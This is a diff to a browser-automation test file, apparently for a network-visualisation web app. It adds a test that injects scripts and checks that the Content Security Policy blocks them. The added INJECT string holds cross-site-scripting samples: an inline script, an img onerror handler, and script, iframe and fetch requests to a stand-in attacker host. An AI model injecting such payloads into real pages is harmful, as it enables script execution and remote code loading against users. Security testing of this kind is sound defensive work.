@@ -32,6 +32,21 @@ AN_ARROW = """(root) => {
     const frame = stage.getBoundingClientRect(), at = network.canvasToDOM({ x, y });
     return { x: frame.left + at.x, y: frame.top + at.y };
 }"""
+INJECT = """() => {
+    globalThis.violations = 0;
+    document.addEventListener("securitypolicyviolation", () => { globalThis.violations += 1; });
+    const script = document.createElement("script");
+    script.textContent = "globalThis.hacked = 1";
+    const remote = document.createElement("script");
+    remote.src = "http://attacker.invalid/x.js";
+    document.body.append(script, remote);
+    const holder = document.createElement("div");
+    holder.innerHTML = "<img src=x onerror='globalThis.hacked = 1'><img src=http://attacker.invalid/x>"
+        + "<iframe src=http://attacker.invalid/x></iframe>";
+    document.body.append(holder);
+    fetch("http://attacker.invalid/x").catch(() => 0);
+}"""
+ROOT = Path(__file__).resolve().parents[2]
 BROKEN = re.compile("Something went wrong|could not be answered")
 SETTLED = '[data-test-script-state="notRunning"]'
 
@@ -92,3 +107,23 @@ def test_hostile_texts_are_only_text_in_every_view(
     _compare(page)
     promise(9, f"{len(HOSTILE_TEXTS)} texts in {len(VIEWS)} views: {len(dialogs)} ran", "0")
     assert dialogs == []
+
+
+@pytest.mark.promise(9)
+@pytest.mark.promise(10)
+def test_what_got_in_all_the_same_would_not_run_nor_fetch(
+    serve: Callable[..., str], visit: Callable[..., Visit]
+) -> None:
+    seen = visit(serve(ROOT / "app.py", str(ROOT / "sample_manifests" / "policytypes-pitfall")))
+    page = seen.page
+    page.locator(".netviz").wait_for()
+    blocked: list[str] = []
+    page.on("requestfailed", lambda request: blocked.append(request.url) if request.failure == "csp" else None)
+    page.evaluate(INJECT)
+    page.wait_for_function("() => globalThis.violations >= 5")
+    assert page.evaluate("() => globalThis.hacked") is None
+    assert all(url in blocked for url in seen.left_the_machine())
+    refused = [error for error in seen.errors if "Content Security Policy" in error]
+    assert len(refused) >= 5
+    seen.errors[:] = [error for error in seen.errors if error not in refused]
+    seen.requests[:] = [url for url in seen.requests if url not in blocked]
